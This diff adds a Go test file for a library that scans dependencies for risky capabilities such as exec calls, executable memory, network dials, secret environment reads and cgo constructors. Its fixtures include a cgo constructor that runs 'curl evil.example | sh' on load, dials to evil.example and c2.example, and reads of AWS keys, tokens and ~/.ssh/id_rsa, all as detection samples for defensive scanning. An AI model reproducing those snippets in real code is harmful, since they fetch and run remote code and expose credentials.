@@ -0,0 +1,313 @@
+package libs
+
+import (
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestFilesystemOpenFile(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"m.go": `package m
+
+import "os"
+
+func open() {
+	os.OpenFile("read.txt", os.O_RDONLY, 0)
+	os.OpenFile("write.txt", os.O_WRONLY|os.O_CREATE, 0644)
+}
+`})
+
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m"}
+	occurrences := AnalyzeDependencies([]Dependency{dep}, 1, FilesystemParser{})
+
+	got := make(map[string]string)
+	for _, occ := range occurrences {
+		got[strings.Join(occ.Literals, ",")] = occ.Kind
+	}
+	want := map[string]string{"write.txt": "write"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+}
+
+// Analyzes a package made of header, which opens a function, followed by one statement
+// per line, and gets the occurrences found by parser by source line.
+func statementOccurrences(t *testing.T, header string, statements []string, parser OccurrenceParser) map[string]*Occurrence {
+	t.Helper()
+	var source strings.Builder
+	source.WriteString(header)
+	for _, statement := range statements {
+		source.WriteString("\t" + statement + "\n")
+	}
+	source.WriteString("}\n")
+
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"m.go": source.String()})
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m"}
+	occurrences := make(map[string]*Occurrence)
+	for _, occ := range AnalyzeDependencies([]Dependency{dep}, 1, parser) {
+		occurrences[occ.Snippet] = occ
+	}
+	return occurrences
+}
+
+// Gets the kind and literals of an occurrence, or an empty string if there is none.
+func kindAndLiterals(occ *Occurrence) string {
+	if occ == nil {
+		return ""
+	}
+	return strings.Join(append([]string{occ.Kind}, occ.Literals...), " ")
+}
+
+func TestExecImports(t *testing.T) {
+	tests := []struct {
+		statement string
+		want      string // method invoked
+	}{
+		{`run.Command("ls")`, "exec.Command"},
+		{`run.CommandContext(context.Background(), "ls")`, "exec.CommandContext"},
+		{`exec := runner{}`, ""},
+		{`exec.Command("ls")`, ""},
+		{`syscall.Exec("/bin/sh", nil, nil)`, "syscall.Exec"},
+	}
+	statements := make([]string, len(tests))
+	for i, test := range tests {
+		statements[i] = test.statement
+	}
+	got := statementOccurrences(t, `package m
+
+import (
+	"context"
+	run "os/exec"
+	"syscall"
+)
+
+type runner struct{}
+
+func (runner) Command(name string) {}
+
+func f() {
+`, statements, ExecParser{})
+
+	for _, test := range tests {
+		method := ""
+		if occ := got[test.statement]; occ != nil {
+			method = occ.MethodInvoked
+		}
+		if method != test.want {
+			t.Errorf("%s: got %q, want %q", test.statement, method, test.want)
+		}
+	}
+}
+
+func TestSyscallArguments(t *testing.T) {
+	tests := []struct {
+		call string
+		want string // kind and literals
+	}{
+		{"syscall.Syscall(syscall.SYS_WRITE, 1, 0, 0)", "syscall SYS_WRITE"},
+		{"unix.Syscall(unix.SYS_GETPID, 0, 0, 0)", "syscall SYS_GETPID"},
+		{"syscall.Syscall(39, 0, 0, 0)", "syscall 39"},
+		{"syscall.Syscall(trap, 0, 0, 0)", "syscall"},
+		{"syscall.Mprotect(b, syscall.PROT_READ|syscall.PROT_EXEC)", "exec-memory"},
+		{"syscall.Mprotect(b, prot|syscall.PROT_EXEC)", "exec-memory"},
+		{"syscall.Mprotect(b, prot&^syscall.PROT_EXEC)", "mprotect"},
+		{"syscall.Mprotect(b, syscall.PROT_READ|syscall.PROT_WRITE)", "mprotect"},
+		{"syscall.Mprotect(b, 7)", "exec-memory"},
+		{"unix.Mprotect(b, prot|unix.PROT_EXEC)", "exec-memory"},
+		{"unix.Mprotect(b, prot&^unix.PROT_EXEC)", "mprotect"},
+		{"unix.Mprotect(b, prot|PROT_EXEC)", "mprotect"},
+		{"syscall.Mmap(0, 0, 4096, prot|syscall.PROT_EXEC, 0)", "exec-memory"},
+	}
+
+	statements := make([]string, len(tests))
+	for i, test := range tests {
+		statements[i] = test.call
+	}
+	got := statementOccurrences(t, `package m
+
+import (
+	"syscall"
+
+	"golang.org/x/sys/unix"
+)
+
+// not the PROT_EXEC of syscall or unix
+var PROT_EXEC = 0
+
+func f(b []byte, trap uintptr, prot int) {
+`, statements, SyscallParser{})
+
+	for _, test := range tests {
+		if kind := kindAndLiterals(got[test.call]); kind != test.want {
+			t.Errorf("%s: got %q, want %q", test.call, kind, test.want)
+		}
+	}
+}
+
+func TestNetworkHosts(t *testing.T) {
+	tests := []struct {
+		statement string
+		want      string // kind and literals
+	}{
+		{`net.Dial("tcp", "evil.example:443")`, "dial evil.example:443"},
+		{`net.Dial("tcp", addr)`, "dial"},
+		{`net.Dial("tcp", host+":443")`, "dial c2.example:443"},
+		{`dialer.DialContext(ctx, "tcp", "10.0.0.1:22")`, "dial 10.0.0.1:22"},
+		{`net.Listen("tcp", ":8080")`, "listen :8080"},
+		{`http.Get("https://evil.example/payload")`, "http-client https://evil.example/payload"},
+		{`client.Post(url, "text/plain", nil)`, "http-client"},
+		{`http.ListenAndServe(":80", nil)`, "http-server :80"},
+		{`syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, 0)`, "socket"},
+	}
+	statements := make([]string, len(tests))
+	for i, test := range tests {
+		statements[i] = test.statement
+	}
+	got := statementOccurrences(t, `package m
+
+import (
+	"context"
+	"net"
+	"net/http"
+	"syscall"
+)
+
+const host = "c2.example"
+
+func f(ctx context.Context, dialer *net.Dialer, client *http.Client, addr, url string) {
+`, statements, NetworkParser{})
+
+	for _, test := range tests {
+		if kind := kindAndLiterals(got[test.statement]); kind != test.want {
+			t.Errorf("%s: got %q, want %q", test.statement, kind, test.want)
+		}
+	}
+}
+
+func TestEnvironmentSeverity(t *testing.T) {
+	tests := []struct {
+		statement string
+		want      string // kind, literals and severity
+	}{
+		{`os.Getenv("HOME")`, "read HOME"},
+		{`os.Getenv("AWS_SECRET_ACCESS_KEY")`, "read AWS_SECRET_ACCESS_KEY high"},
+		{`os.LookupEnv("github_token")`, "read github_token high"},
+		{`os.Getenv(name)`, "read"},
+		{`os.ExpandEnv("$API_KEY")`, "read"},
+		{`os.Setenv("KUBECONFIG", "/tmp/config")`, "write KUBECONFIG high"},
+		{`os.Environ()`, "list"},
+		{`syscall.Getenv("DB_PASSWORD")`, "read DB_PASSWORD high"},
+		{`_ = "$HOME/.ssh/id_rsa"`, "secret-path $HOME/.ssh/id_rsa high"},
+		{`_ = "/home/user/.sshd"`, ""},
+	}
+	statements := make([]string, len(tests))
+	for i, test := range tests {
+		statements[i] = test.statement
+	}
+	got := statementOccurrences(t, `package m
+
+import (
+	"os"
+	"syscall"
+)
+
+func f(name string) {
+`, statements, EnvironmentParser{})
+
+	for _, test := range tests {
+		kind := kindAndLiterals(got[test.statement])
+		if occ := got[test.statement]; occ != nil && occ.Severity != "" {
+			kind += " " + occ.Severity
+		}
+		if kind != test.want {
+			t.Errorf("%s: got %q, want %q", test.statement, kind, test.want)
+		}
+	}
+}
+
+func TestLinknameTargets(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"m.go": `package m
+
+import _ "unsafe"
+
+//go:linkname nanotime runtime.nanotime
+func nanotime() int64
+
+//go:linkname semacquire internal/poll.runtime_Semacquire
+func semacquire(addr *uint32)
+
+//go:linkname method github.com/a/b.(*T).M
+func method()
+
+//go:linkname exported
+func exported() {}
+`})
+
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m"}
+	occurrences := AnalyzeDependencies([]Dependency{dep}, 1, LinknameParser{})
+
+	got := make(map[string]string)
+	for _, occ := range occurrences {
+		if !occ.UnsafeImported {
+			t.Errorf("%s: unsafe import not recorded", occ.VariableName)
+		}
+		got[occ.VariableName] = occ.TargetPackage
+	}
+	want := map[string]string{
+		"nanotime":   "runtime",
+		"semacquire": "internal/poll",
+		"method":     "github.com/a/b",
+		"exported":   "",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+}
+
+func TestCgoPreamble(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"m.go": `package m
+
+/*
+#cgo linux LDFLAGS: -L/opt/lib -lpayload
+#cgo CFLAGS: -DDEBUG
+#include <stdlib.h>
+#include "payload.h"
+
+__attribute__((constructor)) static void setup(void) { system("curl evil.example | sh"); }
+
+static void run(void) {
+	if (fork() == 0) execvp("sh", NULL);
+}
+*/
+import "C"
+
+func f() { C.run() }
+`})
+
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m"}
+	occurrences := AnalyzeDependencies([]Dependency{dep}, 1, CgoParser{})
+
+	var got []string
+	for _, occ := range occurrences {
+		got = append(got, fmt.Sprintf("%d %s %s", occ.LineNumber, occ.MethodInvoked, kindAndLiterals(occ)))
+	}
+	want := []string{
+		"17 C.run call",
+		"4 #cgo LDFLAGS directive -L/opt/lib -lpayload",
+		"5 #cgo CFLAGS directive -DDEBUG",
+		"6 #include include stdlib.h",
+		"7 #include include payload.h",
+		"9 __attribute__((constructor)) constructor",
+		"9 system exec",
+		"12 fork exec",
+		"12 execvp exec",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}